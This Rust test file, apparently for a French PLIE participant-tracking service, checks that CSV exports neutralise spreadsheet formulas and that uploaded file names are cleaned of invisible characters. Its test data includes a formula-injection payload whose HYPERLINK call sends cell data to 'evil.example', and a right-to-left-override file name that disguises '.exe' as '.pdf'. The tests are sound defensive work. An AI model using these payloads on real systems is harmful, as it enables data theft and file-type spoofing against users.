//! Attacks and careless files through the import, the exports and file names (issue 15,
//! items 9, 10, 15 and 16): formulas in the spreadsheet export, real extractions (Windows-1252,
//! 100 000 lines), an import that would rename staff or reveal another PLIE's accounts, file
//! names that lose their extension or reverse their text. Everything goes through
//! `parafe serve`: the API with a coordinateur's token, the pages with a session.

use crate::pack::{deposer_http, pdf_simple};
use crate::service::{participant_ref, Plie, Service, Smtp};
use reqwest::blocking::Client;
use reqwest::StatusCode;
use std::time::Duration;

const EN_TETE: &str = "Identifiant;Civilité;Nom;Prénom;Date de naissance;Email;Téléphone;Code postal;Commune;Département;Email référent;Nom référent;Prénom référent;Opération;Prescripteur;Email prescripteur;Date d'entrée;RSA;Début CER;Date de sortie;Motif de sortie";

/// A session on the pages for `email`, through « mot de passe oublié » and the login form, as a
/// person would: the `Cookie` header to send.
fn session(service: &Service, smtp: &Smtp, email: &str) -> String {
    let client = Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .timeout(Duration::from_secs(60))
        .build()
        .unwrap();
    let r = client
        .post(format!("{}/mot-de-passe-oublie", service.url))
        .form(&[("email", email)])
        .send()
        .unwrap();
    assert!(r.status().is_success(), "{}", r.status());
    let courriel = smtp.attendre(email, "/compte/");
    let debut = courriel.find("/compte/").unwrap() + "/compte/".len();
    let jeton: String = courriel[debut..]
        .chars()
        .take_while(char::is_ascii_alphanumeric)
        .collect();
    let mot_de_passe = "Tournesols mouillés sous la pluie de novembre";
    let r = client
        .post(format!("{}/compte/{jeton}", service.url))
        .form(&[
            ("mot_de_passe", mot_de_passe),
            ("confirmation", mot_de_passe),
        ])
        .send()
        .unwrap();
    assert!(r.status().is_redirection(), "{}", r.text().unwrap());
    let r = client
        .post(format!("{}/connexion", service.url))
        .form(&[
            ("email", email),
            ("mot_de_passe", mot_de_passe),
            ("suite", "/accueil"),
        ])
        .send()
        .unwrap();
    assert!(r.status().is_redirection(), "{}", r.status());
    let cookie = r.headers()["set-cookie"].to_str().unwrap();
    cookie.split(';').next().unwrap().to_owned()
}

/// A page (or file) of the screens, with a session.
fn page(service: &Service, cookie: &str, chemin: &str) -> (StatusCode, Vec<u8>) {
    let r = service
        .client
        .get(format!("{}{chemin}", service.url))
        .header("cookie", cookie)
        .send()
        .unwrap();
    (r.status(), r.bytes().unwrap().to_vec())
}

#[test]
fn export_csv_des_participants_sans_formule_executable() {
    let Plie {
        dir: _dir,
        smtp,
        service,
        coordinateur,
        ..
    } = Plie::pret(None);
    // Cells an attacker (or a careless entry in the parcours software) starts with a formula.
    let piege = format!(
        "{EN_TETE}\nX-1;Madame;\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Benali\"\")\";+Samira;12/05/1988;;;34400;\"@SOMME(1;2)\";34;t.garnier@plie.fr;Garnier;Thomas;202500417;;;04/03/2025;Non;;01/10/2025;-1+1\n"
    );
    let (status, v) = service.importer(&coordinateur, &piege);
    assert_eq!(status, StatusCode::OK, "{v}");

    let cookie = session(&service, &smtp, "coord@plie.fr");
    let (status, octets) = page(&service, &cookie, "/accueil/participants.csv");
    assert_eq!(status, StatusCode::OK);
    let texte = String::from_utf8(octets).unwrap();
    let texte = texte
        .strip_prefix('\u{feff}')
        .expect("BOM UTF-8 pour Excel");
    let mut lecteur = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(texte.as_bytes());
    let entetes = lecteur.headers().unwrap().clone();
    let colonne = |nom: &str| entetes.iter().position(|h| h == nom).unwrap();
    let lignes: Vec<csv::StringRecord> = lecteur.records().map(Result::unwrap).collect();
    let ligne = |identifiant: &str| {
        lignes
            .iter()
            .find(|l| &l[colonne("Identifiant")] == identifiant)
            .unwrap_or_else(|| panic!("{identifiant} absent de l'export :\n{texte}"))
    };
    let x = ligne("X-1");
    // Every cell that a spreadsheet would run is taken as text (OWASP: a leading apostrophe),
    // and keeps the rest of what was typed.
    for (nom, attendu) in [
        (
            "Nom",
            "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Benali\")",
        ),
        ("Prénom", "'+Samira"),
        ("Commune", "'@SOMME(1;2)"),
        ("Motif de sortie", "'-1+1"),
    ] {
        assert_eq!(&x[colonne(nom)], attendu, "colonne {nom}");
    }
    for l in &lignes {
        for cellule in l.iter() {
            assert!(
                !cellule.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "cellule exécutable par un tableur : « {cellule} »"
            );
        }
    }
    // Ordinary cells are left as they are.
    let samira = ligne("P-2025-0412");
    assert_eq!(&samira[colonne("Nom")], "Benali");
    assert_eq!(&samira[colonne("Date d'entrée")], "04/03/2025");
}

#[test]
fn noms_de_fichiers_des_justificatifs_gardent_leur_extension_sans_caracteres_invisibles() {
    let Plie {
        dir: _dir,
        service,
        referent,
        ..
    } = Plie::pret(None);
    let samira = participant_ref(&service, &referent, "Benali");
    let champs = [
        ("participant", samira.as_str()),
        ("genre", "contrat-travail"),
        ("date_piece", "2025-09-01"),
    ];
    let cas = [
        // 300 characters (600 bytes): cut, extension kept.
        (format!("{}.pdf", "é".repeat(296)), None),
        // Right-to-left override (« …fdp.exe » shown as « …exe.pdf »), isolates, marks,
        // zero-width characters: taken out.
        (
            "bulletin-\u{202E}fdp.exe-\u{2067}juin\u{2069}\u{200F}\u{200B}\u{FEFF}.pdf".to_owned(),
            Some("bulletin-fdp.exe-juin.pdf"),
        ),
    ];
    for (i, (nom, attendu)) in cas.into_iter().enumerate() {
        let pdf = pdf_simple(&format!("Contrat de travail {i}"), None);
        let (status, v) =
            deposer_http(&service, &referent, &champs, (nom.as_str(), pdf.as_slice()));
        assert_eq!(status, StatusCode::CREATED, "{nom} : {v}");
        let sha = v["justificatif"]["sha256"].as_str().unwrap().to_owned();
        let dossier = service.ok(
            "GET",
            &format!("/api/participants/{samira}/justificatifs"),
            &referent,
            None,
        );
        let garde = dossier["participant"]["pieces"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["sha256"] == sha.as_str())
            .and_then(|p| p["nom_fichier"].as_str())
            .unwrap_or_else(|| panic!("pièce absente : {dossier}"))
            .to_owned();
        match attendu {
            Some(a) => assert_eq!(garde, a),
            None => {
                assert!(garde.ends_with(".pdf"), "{garde}");
                assert!(garde.chars().count() <= 200, "{garde}");
                assert!(garde.starts_with("éééé"), "{garde}");
            }
        }
        // The download gives the same name.
        let id = v["justificatif"]["id"].as_i64().unwrap();
        let r = service
            .client
            .get(format!("{}/api/justificatifs/{id}", service.url))
            .bearer_auth(&referent)
            .send()
            .unwrap();
        let disposition = r.headers()["content-disposition"].to_str().unwrap();
        assert!(disposition.ends_with(".pdf"), "{disposition}");
        assert!(!disposition.contains("%E2%80%AE"), "{disposition}");
    }
}
